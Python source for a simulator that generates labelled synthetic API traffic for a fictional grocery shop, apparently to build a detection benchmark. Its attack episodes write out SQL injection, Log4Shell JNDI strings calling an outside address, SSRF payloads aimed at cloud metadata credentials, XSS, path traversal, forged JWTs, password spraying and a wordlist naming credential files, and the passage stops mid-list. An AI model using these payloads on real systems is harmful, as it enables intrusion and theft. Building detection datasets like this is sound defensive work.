    # --- machines
    def machines(w):
        S, app = w.S, w.app
        w.keys = {}
        firms = (('preisfuchs', '52.57.14.90', 'PreisFuchs-Importer/4.1'), ('korbvergleich', '167.235.8.31', 'GuzzleHttp/7'),
                ('billigerfood', '35.198.70.3', 'Go-http-client/1.1'))
        for k, (n, ip, ua) in enumerate(firms):
            w.keys[n] = f'kp_{app.rng.getrandbits(110):028x}'
            app.keys[w.keys[n]] = n
            S.spawn(w.st + 40 + k * 300, w.partner(n, Client(ip, ua, f'partner:{n}', headers={'X-Partner-Key': w.keys[n]})))
        S.spawn(w.st + 50, w.members(Client('52.57.14.91', 'PreisFuchs-Cashback/1.3', 'partner:preisfuchs', dc='D-verify',
                headers={'X-Partner-Key': w.keys['preisfuchs']})))
        S.spawn(w.st + 1, w.warehouse())
        S.spawn(w.st + 2, w.newsletter_job())
        S.spawn(w.st + 3, w.probe())
        S.spawn(w.st + 4, w.crawler())

    def changes(w, n, cl):
        d = (w.S.now - w.st) / DAY
        if n == 'korbvergleich' and d > 7.3 and cl.dc is None:
            cl.dc, k = 'D-keyrot', 'kp_4d1f0c22b7ae96615e0d83b90a71'
            w.app.keys[k] = n
            cl.h['X-Partner-Key'] = k
        if n == 'billigerfood' and d > 10.4:
            cl.ip, cl.dc = '34.89.201.14', 'D-move'

    def partner(w, n, cl):
        r = w.r
        slash = '' if n == 'korbvergleich' else '/'
        page = '/partner/v1/offers/'
        while True:
            w.changes(n, cl)
            rs = w.call(cl, 'GET', page)
            page = (rs.body.get('next') or '').split(API)[-1] if rs.st == 200 else page
            page = page or '/partner/v1/offers/'
            for e in r.sample(list(w.app.by_ean), r.randint(0, 2)):
                yield r.uniform(.3, 3)
                rs = w.call(cl, 'GET', f'/partner/v1/offers/{e}{slash}')
                if rs.st == 301:
                    w.call(cl, 'GET', rs.h['Location'])
            if r.random() < .3:
                w.call(cl, 'POST', '/partner/v1/clicks/',
                        dict(clicks=[dict(ean=r.choice(list(w.app.by_ean)), n=r.randint(1, 9)) for _ in range(r.randint(1, 5))]))
            if r.random() < .25:
                w.call(cl, 'GET', f'/partner/v1/conversions/{r.choice(list(w.app.orders)[-60:])}/')
            yield r.uniform(5000, 10400)

    def members(w, cl):
        r = w.r
        while True:
            h = ((w.S.now - w.st) / HOUR + w.S.tz) % 24
            if 8 < h < 19 and time.gmtime(w.S.now).tm_wday < 5:
                u = r.choice(w.cust)
                ph = u['phone'] if r.random() < .8 else f'+43664{r.randint(10**6, 10**7 - 1)}'
                w.call(cl, 'POST', '/partner/v1/members/verify/', dict(phone=ph, postcode=u['addr'][0]['postcode']))
            yield r.expovariate(1 / 2700)

    def warehouse(w):
        cl = Client('10.48.9.5', 'wms-bridge/3.2', 'svc:warehouse', dc='D-batch', headers={'Host': OPS})
        yield max(0, w.S.local(0, 2.2) - w.S.now)
        while True:
            d = int((w.S.now - w.st + 3 * HOUR) / DAY)
            full = d == 9
            cl.dc = 'D-stock' if full else 'D-batch'
            w.call(cl, 'GET', '/internal/stock/export.json')
            for p in list(w.app.products)[:260 if full else 26]:
                w.call(cl, 'GET', f'/internal/stock/{p}.json')
                yield .25
            for _ in range(4):
                w.call(cl, 'POST', '/internal/prices/import.json',
                        dict(prices=[[int(p), w.r.randint(49, 1899)] for p in w.r.sample(list(w.app.products), 25)]))
                yield 2
            t = w.st + (d + 1) * DAY + .2 * HOUR
            yield max(600, t - w.S.now + w.r.uniform(0, 60))

    def newsletter_job(w):
        cl = Client('10.48.9.17', 'crm-sync/1.8 ruby/3.2', 'svc:crm', dc='D-batch', headers={'Host': OPS})
        yield max(0, w.S.local(0, 3.5) - w.S.now)
        while True:
            for p in (1, 2, 3):
                w.call(cl, 'GET', f'/internal/customers/export.json?page={p}')
                yield 4
            yield DAY - 12

    def probe(w):
        a = Client('10.48.3.3', 'Uptime-Kuma/1.23', 'probe', dc='D-probe')
        b = Client('10.48.3.3', 'Uptime-Kuma/1.23', 'probe', dc='D-probe', headers={'Host': OPS})
        while True:
            w.call(a, 'GET', '/healthz/')
            yield 1
            w.call(b, 'GET', '/up')
            yield 1199

    def crawler(w):
        cl = Client('66.249.75.40', 'Mozilla/5.0 (compatible; Suchbot/2.0; +http://suchbot.example/bot.html)', 'crawler', dc='D-crawl')
        r = w.r
        while True:
            x = r.random()
            p = r.choice(list(w.app.products))
            w.call(cl, 'GET', f'/api/v3/reviews/{r.randint(30500, 33999)}/' if x < .4 else
                   f'/api/v3/products/{p}/' if x < .8 else f'/api/v3/products/{p}/reviews/')
            yield r.uniform(700, 3200)


def build(name, seed, attacks, start='2026-06-01', days=16):
    st = ts(start)
    app = Grocer(random.Random(seed + 1), attacks, st)
    S = Sim(name, 'Korbly: online grocery with couriers, synthetic', st, days, '10.48.12.6', 8000, API, app, seed, 2, f'Hosts {API} and {OPS} on one address.')
    out0 = S.local(5, 17.6)
    app.down = [(out0, out0 + 90 * MIN)]
    w = Town(S, app)
    w.population()
    w.workers()
    w.machines()
    if attacks:
        Raid(w).plan()
    S.run()
    return S


A, AE, EP = 'actor', 'actor+endpoint', 'endpoint'
EPISODES = (
    ('K01', 'bola_enumeration', 'API1:2023', A, 'easy',
            'web customer walks customer ids upward, 140 in 15 minutes; the records of others are answered, gaps are 404'),
    ('K02', 'bola_enumeration_slow', 'API1:2023', A, 'hard',
            'app customer reads orders of others under the own id, two an hour in waking hours for five days, between own use'),
    ('K03', 'bola_write_account_takeover', 'API1:2023', A, 'hard',
            'customer sets passwords of six others by path id, then signs in as them and reads their orders'),
    ('K04', 'excessive_data_exposure_debug', 'API3:2023', AE, 'medium',
            'a debug listing with password hashes is called from outside without a token, never seen before'),
    ('K05', 'mass_assignment', 'API3:2023', A, 'hard', 'profile update carries is_staff and credit_balance, which nobody else sends'),
    ('K06', 'bfla_admin_function', 'API5:2023', A, 'medium', 'the self-made staff member books refunds and reads customers on the other host, which answers'),
    ('K07', 'bfla_probe_denied', 'API5:2023', A, 'medium', 'customer tries staff functions and is refused'),
    ('K08', 'credential_stuffing_distributed', 'API2:2023', EP, 'hard', '130 addresses, two to four log-ins each over eight hours, 401 answers, two succeed'),
    ('K09', 'password_spraying', 'API2:2023', EP, 'hard', 'one password against all known accounts on the web, 5 addresses, one try in 8 to 20 minutes'),
    ('K10', 'user_enumeration', 'API2:2023', A, 'easy', 'password reset tells whether an address has an account: 260 tried in 12 minutes'),
    ('K11', 'sql_injection_manual', 'API8:2023', A, 'medium',
            'hand-made SQL injection in the category, a dozen over an hour; errors, then rows of another table'),
    ('K12', 'sqlmap_scan', 'API8:2023', A, 'easy', 'run of an SQL injection tool against the category, 64 requests'),
    ('K13', 'redos_app_dos', 'API4:2023', A, 'medium', 'address check with pathological strings holds the server 1 to 8 s, 10 requests'),
    ('K14', 'application_dos', 'API4:2023', AE, 'medium', 'products with page_size=100000 hold the server 5 to 9 s, two addresses, 36 calls in 20 minutes'),
    ('K15', 'jwt_forging', 'API2:2023', A, 'medium', 'changed, alg none and guessed-secret tokens until a forged staff token is accepted'),
    ('K16', 'content_discovery', 'API9:2023', A, 'easy', '240 unknown paths on both hosts in a minute and a half'),
    ('K17', 'content_discovery_slow', 'API9:2023', A, 'hard', 'unknown paths, one in some minutes for two and a half days, three addresses'),
    ('K18', 'stolen_token', 'API2:2023', A, 'hard', 'token of a customer used from another network and client beside its owner through a day'),
    ('K19', 'api_fuzzing', 'API8:2023', A, 'easy', 'all documented operations with malformed input, 400 requests'),
    ('K20', 'unauthenticated_private_object', 'API2:2023', AE, 'medium', 'old customer version answers without a token; 160 ids in two hours'),
    ('K21', 'sequential_scrape_public', 'API6:2023', EP, 'medium',
            'reviews fetched by counting ids downward without a token, 12 addresses, 840 in a day and a half'),
    ('K22', 'multi_account_profile_scrape', 'API6:2023', EP, 'hard', '40 accounts made for it read 5 to 8 shopper profiles a day for four days'),
    ('K23', 'contact_import_enumeration', 'API6:2023', A, 'medium',
            'friend import with consecutive phone numbers, 100 a request, 3 accounts, 120 requests in a day'),
    ('K24', 'partner_lookup_unauthenticated', 'API2:2023', AE, 'medium',
            'member look-up answered without a key and with postcode 0000, 40 requests in four days'),
    ('K25', 'leaked_api_key', 'API2:2023', A, 'medium',
            'key of a partner from a new network with a new client reads conversions of many orders, 210 in two days'),
    ('K26', 'log4shell_probe', 'API8:2023', A, 'medium', 'look-up strings in headers, parameters and bodies, half obfuscated, four addresses over a day'),
    ('K27', 'response_schema_growth_pii', 'API3:2023', EP, 'medium',
            'after a release tracking carries phone, e-mail, birth date, IBAN and home of the courier (no attacker; every call is labelled)'),
    ('K28', 'data_overconsumption', 'API4:2023', A, 'easy', 'customer pulls price histories of 430 products with limit=700 in one night'),
    ('K29', 'internal_endpoint_external', 'API9:2023', AE, 'medium', 'the customer export, called only from inside until then, is called from outside'),
    ('K30', 'shadow_endpoint', 'API9:2023', EP, 'medium', 'an undocumented profiler appears and is called by three clients from outside'),
    ('K31', 'coupon_brute_force', 'API6:2023', A, 'easy', '380 coupon codes tried by one account in 70 minutes'),
    ('K32', 'ssrf', 'API7:2023', A, 'medium', 'recipe import is given internal and metadata addresses'),
    ('K33', 'injection_mixed', 'API8:2023', A, 'medium', 'traversal, script, template and SQL strings, one in some minutes'),
)
JUNK = '''
.env .git/config .git/HEAD backup.zip db.sql dump.sql admin/ admin/login/ phpinfo.php wp-login.php server-status actuator/env
actuator/heapdump config.json swagger.json openapi.json api/docs/ api/schema/ api/v2/users/ api/v4/ internal/ console rails/info/routes
sidekiq flower/ metrics debug/pprof/ graphql static/js/main.map products customers auth/token session search v1/offers orders
reports/sales.json sign_in.json .DS_Store .aws/credentials id_rsa docker-compose.yml Dockerfile package.json composer.json web.config
robots.txt sitemap.xml old/ test/ staging/
'''.split()


class Raid:
    """The episodes."""

    def __init__(x, w):
        x.w, x.S, x.app, x.r, x.st = w, w.S, w.app, w.r, w.st
        for i, kind, owasp, scope, diff, text in EPISODES:
            x.S.episode(i, kind, owasp, scope, diff, text)

    def plan(x):
        at = dict(k01=(6, 21), k02=(5, 8.5), k03=(9, 22), k04=(7, 3.1), k05=(8, 15.5), k06=(9, 11), k07=(5, 20.3), k09=(12, 6), k10=(4, 14), k11=(6, 15),
                k12=(10, 2.6), k13=(8, 4), k15=(7, 17), k16=(4, 3), k18=(12, 9), k19=(5, 1.2), k20=(9, 2), k24=(8, 10), k25=(5, 13), k28=(14, 1),
                k29=(10, 11), k31=(13, 2.5), k32=(11, 18), k33=(14, 13))
        for k, (d, h) in at.items():
            x.S.spawn(x.S.local(d, h), getattr(x, k)())
        many = dict(k08=(130, 11, 1, 8 * HOUR), k14=(2, 13, 19, 90), k17=(3, 10, 5, HOUR), k21=(12, 7, 5, HOUR), k22=(40, 6, 9, 28 * HOUR),
                k23=(3, 13, 9, HOUR), k26=(4, 3, 16, 4 * HOUR), k30=(3, 9, 12, 30 * HOUR))
        for k, (n, d, h, span) in many.items():
            for i in range(n):
                x.S.spawn(x.S.local(d, h) + x.r.random() * span, getattr(x, k + '_')(i))
        x.S.spawn(x.S.local(12, 8.2), x.owner())
        for h in (10.2, 12.4, 14.7, 16.9):
            x.S.spawn(x.S.local(12, h), x.w.visit(x.w.cust[120]['cl'], x.w.cust[120]))
        x.growth()

    def call(x, cl, m, path, js=None, **k):
        return x.S.call(cl, m, path, js=js, **k)

    def evil(x, u, ep, ip=None, ua=None):
        """a second client of a customer, signed in"""
        cl = x.w.client(ip or u['cl'].ip, ua or u['cl'].ua, u, ep=ep)
        x.w.login(cl, u)
        return cl

    def alive(x, cl, u):
        if x.S.now > cl.exp - 600:
            x.w.login(cl, u)

    def k01(x):
        cl = x.evil(x.w.cust[121], 'K01')
        for i in range(11240, 11380):
            yield x.r.uniform(3, 9)
            x.call(cl, 'GET', f'/api/v3/customers/{i}/')

    def k02(x):
        u = x.w.cust[122]
        cl = x.evil(u, 'K02')
        for _ in range(5):
            for _ in range(24):
                yield x.r.uniform(1100, 2500)
                x.alive(cl, u)
                x.call(cl, 'GET', f'/api/v3/customers/{u["id"]}/orders/{x.r.choice(list(x.app.orders)[-260:])}/')
            yield x.S.local(0, 8.5) + DAY * (int((x.S.now - x.S.local(0, 8.5)) / DAY) + 1) - x.S.now

    def k03(x):
        u = x.w.cust[123]
        cl = x.evil(u, 'K03')
        for v in x.r.sample(x.w.cust[20:100], 6):
            yield x.r.uniform(30, 200)
            x.call(cl, 'PUT', f'/api/v3/customers/{v["id"]}/password/', dict(new_password='Korb.2026.neu'))
            yield x.r.uniform(10, 60)
            c2 = x.w.client(cl.ip, cl.ua, v, ep='K03')
            if x.w.login(c2, v, 'Korb.2026.neu') == 200:
                yield x.r.uniform(2, 8)
                x.call(c2, 'GET', f'/api/v3/customers/{v["id"]}/orders/')

    def k04(x):
        cl = Client('45.141.87.12', 'python-requests/2.31.0', None, ep='K04')
        for q in ('', '?format=json', '?format=json&limit=500'):
            x.call(cl, 'GET', '/api/v3/debug/customers/' + q)
            yield x.r.uniform(20, 400)

    def k05(x):
        u = x.w.cust[125]
        cl = x.evil(u, 'K05')
        yield 20
        x.call(cl, 'PATCH', f'/api/v3/customers/{u["id"]}/', dict(phone=u['phone'], newsletter=False, is_staff=True))
        yield 45
        x.call(cl, 'PATCH', f'/api/v3/customers/{u["id"]}/', dict(phone=u['phone'], is_staff=True, credit_balance=50000))

    def k06(x):
        u = x.w.cust[125]
        cl = x.evil(u, 'K06')
        cl.h['Host'] = OPS
        for m, p, js in (('GET', '/staff/orders.json?state=delivered&page=1', None), ('GET', f'/staff/customers/{u["id"]}.json', None),
                ('PATCH', f'/staff/customers/{u["id"]}.json', dict(customer=dict(credit_balance=90000)))):
            yield x.r.uniform(15, 90)
            x.call(cl, m, p, js)
        for n in (u['orders'][-2:] + list(x.app.orders)[-4:])[:4]:
            yield x.r.uniform(30, 200)
            x.call(cl, 'POST', f'/staff/orders/{n}/refunds.json', dict(amount=4990, reason='fehlt'))
        for v in x.r.sample(x.w.cust, 2):
            yield x.r.uniform(20, 90)
            x.call(cl, 'GET', f'/staff/customers/{v["id"]}.json')

    def k07(x):
        u = x.w.cust[127]
        cl = x.evil(u, 'K07')
        cl.h['Host'] = OPS
        c = x.r.sample(x.w.cust, 2)
        for m, p in (('GET', '/staff/orders.json'), ('GET', f'/staff/customers/{c[0]["id"]}.json'), ('GET', '/staff/reports/sales.json'),
                ('POST', f'/staff/orders/{x.app.next_order}/refunds.json'), ('PATCH', f'/staff/customers/{u["id"]}.json'),
                ('PATCH', '/staff/products/2003.json'), ('GET', f'/staff/customers/{c[1]["id"]}.json'), ('GET', '/staff/reports/sales.json')):
            yield x.r.uniform(8, 50)
            x.call(cl, m, p, dict(amount=100) if m != 'GET' else None)

    def k08_(x, i):
        r = x.r
        cl = x.w.client(f'{r.choice([31, 45, 88, 103, 117, 181, 190])}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(1, 250)}',
                r.choice(list(OLD) + ANDROID), None, ep='K08')
        for _ in range(r.randint(2, 4)):
            x.call(cl, 'POST', '/api/v3/auth/token/',
                    dict(email=f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 99)}@{r.choice(["posteo", "mail", "webpost"])}.example',
                    password=f'{r.choice(WORDS)}{r.randint(1, 999)}'))
            yield r.uniform(20, 1500)
        if i in (50, 97):
            u = x.w.cust[i - 20]
            if x.w.login(cl, u) == 200:
                yield 4
                x.call(cl, 'GET', f'/api/v3/customers/{u["id"]}/', ident=str(u['id']))

    def k09(x):
        cls = [x.w.client(f'{a}.77', WEB[i % 4], None, ep='K09') for i, a in enumerate(('89.248.165', '94.102.51', '185.156.73', '194.26.29', '80.66.76'))]
        for u in x.r.sample(x.w.cust, len(x.w.cust)):
            if x.S.now > x.S.end - HOUR:
                return
            x.call(x.r.choice(cls), 'POST', '/api/v3/session/', dict(email=u['email'], password='Sommer2026!'), ident=str(u['id']))
            yield x.r.uniform(480, 1200)

    def k10(x):
        r = x.r
        cl = x.w.client('141.98.10.60', WEB[2], None, ep='K10')
        for _ in range(260):
            e = r.choice(x.w.cust)['email'] if r.random() < .08 else f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 99)}@posteo.example'
            x.call(cl, 'POST', '/api/v3/auth/password/reset/', dict(email=e))
            yield r.uniform(1.5, 4)

    def k11(x):
        cl = x.w.client('146.70.117.88', WEB[2], None, ep='K11')
        for v in ("obst'", "obst''", "obst' AND 1=1--", "obst' AND 1=2--", "obst' ORDER BY 3--", "obst' ORDER BY 4--",
                "obst' UNION SELECT NULL,NULL,NULL--", "obst' UNION SELECT 1,version(),NULL--",
                "x' UNION SELECT 1,table_name,NULL FROM information_schema.tables--", "x' UNION SELECT id,email,password FROM shop_customer LIMIT 20--",
                "x' UNION SELECT id,email,password FROM shop_customer LIMIT 20 OFFSET 20--", "obst'; SELECT pg_sleep(5)--"):
            x.call(cl, 'GET', '/api/v3/products/?' + urlencode({'category': v}))
            yield x.r.uniform(60, 500)

    def k12(x):
        r = x.r
        cl = Client('185.220.101.47', 'sqlmap/1.8.4#stable (https://sqlmap.org)', None, ep='K12')
        t = ("brot') AND {a}={a} AND ('x'='x", "brot' AND {a}={b} AND 'x'='x", "brot' AND {a}=CAST((CHR(113)||(SELECT {a})) AS NUMERIC)-- q",
                "brot';SELECT PG_SLEEP(5)--", "brot' AND (SELECT {a} FROM (SELECT(SLEEP(5)))x) AND 'q'='q",
                "brot' UNION ALL SELECT NULL,CONCAT(0x71,{a}),NULL-- -", 'brot,."({a}', "brot'({b}<'\">{a}", "-{a}' OR {a}={a}-- ")
        x.call(cl, 'GET', '/api/v3/products/?category=brot')
        for i in range(63):
            yield r.uniform(.2, .9)
            x.call(cl, 'GET', '/api/v3/products/?category=' + quote(t[i % len(t)].format(a=r.randint(1000, 9999), b=r.randint(1000, 9999))))

    def k13(x):
        cl = x.evil(x.w.cust[128], 'K13', '212.102.40.9', 'python-requests/2.32.3')
        for n in (26, 28, 30, 32, 33, 34, 35, 36, 36, 36):
            yield x.r.uniform(5, 40)
            x.call(cl, 'POST', '/api/v3/addresses/validate/', dict(line1='a' * n + '!', postcode='1020'))

    def k14_(x, i):
        cl = Client(('5.188.62.14', '5.188.62.203')[i], ('curl/8.5.0', 'Go-http-client/1.1')[i], None, ep='K14')
        for _ in range(18):
            x.call(cl, 'GET', '/api/v3/products/?page_size=100000')
            yield x.r.uniform(20, 80)

    def k15(x):
        v, r = x.w.cust[14], x.r
        cl = Client('62.210.140.7', 'python-httpx/0.27.0', None, ep='K15')
        now = int(x.S.now)
        c = dict(token_type='access', exp=now + DAY, iat=now, jti='00' * 16, user_id=v['id'])
        none = [b64(json.dumps({'alg': a, 'typ': 'JWT'}).encode()) + '.' + b64(json.dumps(c).encode()) + '.' for a in ('none', 'None', 'NONE')]
        own = x.app.access(x.w.cust[129], x.S.now).split('.')
        toks = none + [own[0] + '.' + b64(json.dumps(c).encode()) + '.' + own[2], '.'.join(own[:2]) + '.']
        toks += [jwt(c, k) for k in ('secret', 'korbly', 'django-insecure', 'changeme', '123456', 'password', 'jwt', 'key', 'shop', 'korb', 'grocer')]
        for t in toks:
            x.call(cl, 'GET', f'/api/v3/customers/{v["id"]}/', h={'Authorization': 'Bearer ' + t})
            yield r.uniform(4, 50)
        t = {'Authorization': 'Bearer ' + jwt(dict(c, is_staff=True), SECRET)}
        x.call(cl, 'GET', f'/api/v3/customers/{v["id"]}/', h=t)
        for p in ('/staff/reports/sales.json', '/staff/orders.json?state=delivered', f'/staff/customers/{v["id"]}.json'):
            yield r.uniform(10, 60)
            x.call(cl, 'GET', p, h=dict(t, Host=OPS))

    def k16(x):
        cl = Client('193.142.146.35', 'ffuf/2.1.0-dev', None, ep='K16')
        paths = [f'/{p}{j}' for p in ('', 'api/v3/', 'partner/', 'staff/') for j in JUNK + WORDS]
        for p in x.r.sample(paths, 240):
            x.call(cl, 'GET', p, h={'Host': OPS} if p.startswith('/staff') else None)
            yield x.r.uniform(.1, .6)

    def k17_(x, i):
        cl = x.w.client(('79.110.62.18', '91.92.251.103', '77.90.185.6')[i], WEB[i], None, ep='K17')
        paths = [f'/{p}{j}' for p in ('', 'api/', 'api/v2/', 'api/v3/', 'shop/', 'v1/', 'backend/') for j in JUNK + WORDS]
        for p in x.r.sample(paths, 170):
            if x.S.now > x.S.local(12, 18):
                return
            x.call(cl, 'GET', p)
            yield x.r.uniform(400, 2100)

    def owner(x):
        """the owner of the token that is stolen signs in that morning"""
        u = x.w.cust[120]
        u['cl'].exp = 0
        u['cl'].refresh = None
        yield from x.w.visit(u['cl'], u)
        while x.S.now > u['cl'].exp:        # Signed out again: another time.
            yield 60
            x.w.login(u['cl'], u)

    def k18(x):
        u = x.w.cust[120]
        cl = Client('188.119.112.5', WEB[0], str(u['id']), ep='K18', headers={'Authorization': u['cl'].h['Authorization']})
        c = f'/api/v3/customers/{u["id"]}/'
        for _ in range(44):
            if x.S.now > x.S.local(12, 17.7):
                return
            y = x.r.random()
            n = x.r.choice(u['orders']) if u['orders'] else ''
            if y < .9:
                x.call(cl, 'GET', c if y < .3 else c + 'addresses/' if y < .5 else c + 'orders/' if y < .7 or not n else f'{c}orders/{n}/')
            else:
                x.call(cl, 'PATCH', c, dict(phone=u['phone']))
            yield x.r.uniform(200, 1100)

    def k19(x):
        u, r = x.w.cust[130], x.r
        cl = x.evil(u, 'K19', '45.83.64.20', 'schemathesis/3.30.1')
        b, c = uid(r), f'/api/v3/customers/{u["id"]}/'
        ops = [('POST', '/api/v3/auth/token/'), ('POST', '/api/v3/auth/token/refresh/'), ('POST', '/api/v3/session/'), ('POST', '/api/v3/baskets/'),
                ('POST', f'/api/v3/baskets/{b}/items/'), ('POST', f'/api/v3/baskets/{b}/coupon/'), ('PATCH', f'/api/v3/baskets/{b}/items/0/'),
                ('POST', c + 'orders/'), ('PATCH', c + 'orders/0/'), ('POST', c + 'addresses/'), ('POST', '/api/v3/addresses/validate/'), ('PATCH', c),
                ('POST', c + 'friends/import/'), ('POST', c + 'lists/import/'), ('POST', '/api/v3/products/-1/reviews/'), ('PATCH', '/api/v3/customers/null/')]
        gets = ['/api/v3/products/?page=%s', '/api/v3/products/?category=%s', '/api/v3/products/%s/', '/api/v3/search/?q=%s',
                '/api/v3/delivery-slots/?postcode=%s', '/api/v3/reviews/%s/', '/api/v3/shoppers/%s/', c + 'orders/?cursor=%s', c + 'orders/%s/',
                '/api/v3/baskets/%s/']
        odd = ['-1', '0', '', 'null', 'None', '99999999999999999999', '%00', 'a' * 300, '%F0%9F%92%A9', '1.5', 'true', '[]', '%0A', '..', '%C3%9F', '1e309']
        bodies = [b'{', b'[]', b'null', b'""', b'0', b'{"email":[]}', b'{"email":{"a":1},"password":null}', b'{"quantity":-1}', b'{"quantity":1e400}',
                b'{"":""}', b'{"product":"\\u0000"}', b'{"phones":"x"}', b'{"url":7}', b'{"phone":"\\ud83d\\udca9"}', b'{"code":' + b'9' * 80 + b'}',
                b'{"a":' * 40, b'\xff\xfe\x00', b'{"stars":false}', b'']
        for _ in range(400):
            yield r.uniform(.08, .6)
            if r.random() < .45:
                x.call(cl, 'GET', r.choice(gets) % r.choice(odd))
            else:
                m, p = r.choice(ops)
                x.call(cl, m if r.random() < .85 else r.choice(['PUT', 'DELETE', 'PATCH', 'TRACE']), p, body=r.choice(bodies),
                        ct='application/json' if r.random() < .85 else r.choice(['text/plain', 'application/xml']))

    def k20(x):
        cl = Client('94.156.66.41', 'okhttp/3.12.1', None, ep='K20')
        for i in x.r.sample([i for i in range(10200, 14800) if x.app.lapsed(i)], 160):
            x.call(cl, 'GET', f'/api/v1/customers/{i}/')
            yield x.r.uniform(15, 75)

    def k21_(x, i):
        cl = x.w.client(f'{("5.188", "141.98", "193.32", "92.118")[i % 4]}.{40 + i}.{i * 17 + 4}', WEB[i % 4], None, ep='K21')
        for n in range(33990 - i, 33150, -12):
            x.call(cl, 'GET', f'/api/v3/reviews/{n}/')
            yield x.r.uniform(700, 2600)

    def k22_(x, i):
        r = x.r
        cl = x.w.client(f'{r.choice([37, 46, 95, 109])}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(1, 250)}', r.choice(WEB + list(NEW)), None,
                ep='K22')
        e, p = f'{r.choice(FIRST)}{r.choice(LAST)}{r.randint(100, 9999)}@webpost.example', f'{r.choice(WORDS)}{r.randint(10**4, 10**6)}'
        rs = x.call(cl, 'POST', '/api/v3/customers/', dict(email=e, password=p, newsletter=False))
        if rs.st != 201:
            return
        u = x.app.cust[rs.body['id']]
        cl.ident = str(u['id'])
        for d in range(8, 12):
            yield max(60, x.S.local(d, r.uniform(8, 12)) - x.S.now)
            x.alive(cl, u)
            for _ in range(r.randint(5, 8)):
                yield r.expovariate(1 / 2400)
                x.alive(cl, u)
                x.call(cl, 'GET', f'/api/v3/shoppers/{r.choice(list(x.app.handles)[:170])}/')

    def k23_(x, i):
        u = x.w.cust[131 + i]
        cl = x.evil(u, 'K23')
        n = 4000300 + i * 9000
        for _ in range(40):
            yield x.r.uniform(400, 1500)
            x.alive(cl, u)
            x.call(cl, 'POST', f'/api/v3/customers/{u["id"]}/friends/import/', dict(phones=[f'+43664{n + k}' for k in range(100)]))
            n += 100

    def k24(x):
        cl = Client('195.123.240.8', 'python-requests/2.28.2', None, ep='K24')
        for _ in range(40):
            x.call(cl, 'POST', '/partner/v1/members/verify/', dict(phone=x.r.choice(x.w.cust)['phone'], postcode='0000'))
            yield x.r.uniform(.3, 4.5) * HOUR

    def k25(x):
        cl = Client('176.123.4.51', 'python-requests/2.31.0', 'partner:preisfuchs', ep='K25', headers={'X-Partner-Key': x.w.keys['preisfuchs']})
        for n in x.r.sample(list(x.app.orders), 210):
            x.call(cl, 'GET', f'/partner/v1/conversions/{n}/')
            yield x.r.expovariate(1 / 800)

    def k26_(x, i):
        r = x.r
        cl = Client(('45.155.205.33', '171.25.193.20', '195.54.160.149', '103.107.198.9')[i],
                ('Mozilla/5.0 zgrab/0.x', WEB[0], 'curl/7.68.0', 'Go-http-client/1.1')[i], None, ep='K26')
        pay = ['${jndi:ldap://198.18.77.4:1389/a}', '${jndi:dns://x1.198.18.77.4.nip.example/k}', '${${lower:j}ndi:${lower:l}dap://198.18.77.4/b}',
                '${${::-j}${::-n}${::-d}${::-i}:rmi://198.18.77.4/c}']
        for _ in range(9):
            p, k = r.choice(pay), r.randint(0, 4)
            if k == 0:
                x.call(cl, 'GET', '/', h={'User-Agent': p})
            elif k == 1:
                x.call(cl, 'GET', '/api/v3/search/?' + urlencode({'q': p}))
            elif k == 2:
                x.call(cl, 'POST', '/api/v3/auth/token/', dict(email=p, password=p))
            elif k == 3:
                x.call(cl, 'GET', '/api/v3/products/', h={'X-Api-Version': p, 'Referer': p})
            else:
                x.call(cl, 'GET', '/staff/orders.json', h={'Host': OPS, 'Authorization': 'Bearer ' + p})
            yield r.uniform(600, 9000)

    def growth(x):
        """every answer of the tracking with the courier's record is labelled K27"""
        real = x.S.call

        def call(cl, m, url, **k):
            rs = real(cl, m, url, **k)
            t = x.S.tx[-1]
            if url.endswith('/tracking/') and rs.st == 200 and 'iban' in rs.body['courier'] and not t['ep']:
                t['ep'] = 'K27'
            return rs
        x.S.call = call

    def k28(x):
        u = x.w.cust[134]
        cl = x.evil(u, 'K28')
        for p in x.r.sample(list(x.app.products), 430):
            yield x.r.uniform(5, 25)
            x.call(cl, 'GET', f'/api/v3/products/{p}/price-history/?limit=700')

    def k29(x):
        cl = Client('91.240.118.172', 'curl/8.4.0', None, ep='K29', headers={'Host': OPS})
        for k in (1, 1, 2, 3, 1, 2, 3, 4):
            x.call(cl, 'GET', f'/internal/customers/export.json?page={k}')
            yield x.r.uniform(20, 60) if k in (2, 3) else x.r.uniform(9000, 50000)

    def k30_(x, i):
        cl = x.w.client(f'185.191.{171 + i}.{i * 31 + 8}', WEB[i], None, ep='K30')
        for _ in range(4):
            x.call(cl, 'GET', '/api/v3/_profiler/requests/')
            yield x.r.uniform(900, 40000)

    def k31(x):
        u, r = x.w.cust[136], x.r
        cl = x.evil(u, 'K31')
        b = x.call(cl, 'POST', '/api/v3/baskets/', {}).body['id']
        x.call(cl, 'POST', f'/api/v3/baskets/{b}/items/', dict(product=2003, quantity=1))
        for _ in range(380):
            yield r.uniform(7, 15)
            x.call(cl, 'POST', f'/api/v3/baskets/{b}/coupon/', dict(code=f'{r.choice(["OMA", "SOMMER", "KORB", "WILLKOMMEN", "GRATIS"])}{r.randint(1, 999)}'))

    def k32(x):
        u = x.w.cust[137]
        cl = x.evil(u, 'K32')
        for v in ('http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
                'http://127.0.0.1:8000/admin/', 'http://localhost:6379/', 'http://10.48.9.5:9200/_cat/indices', 'http://10.48.12.7:5432/',
                'http://[::1]:8000/', 'http://metadata.google.internal/computeMetadata/v1/', 'file:///etc/passwd'):
            yield x.r.uniform(40, 240)
            x.call(cl, 'POST', f'/api/v3/customers/{u["id"]}/lists/import/', dict(url=v))

    def k33(x):
        cl = x.w.client('5.253.114.60', WEB[1], None, ep='K33')
        for p in ('/api/v3/search/?q=' + quote('<script>alert(document.cookie)</script>'), '/api/v3/products/..%2f..%2f..%2fetc%2fpasswd/',
                '/api/v3/search/?q=' + quote('{{7*7}}'), '/api/v3/products/?category=' + quote("brot' OR '1'='1"), '/static/%2e%2e/%2e%2e/etc/passwd',
                '/api/v3/search/?q=' + quote('${7*7}#{7*7}'), '/api/v3/reviews/1%20OR%201=1/',
                '/api/v3/delivery-slots/?postcode=' + quote("1020'; DROP TABLE slots--"), '/api/v3/search/?q=' + quote('"><img src=x onerror=alert(1)>'),
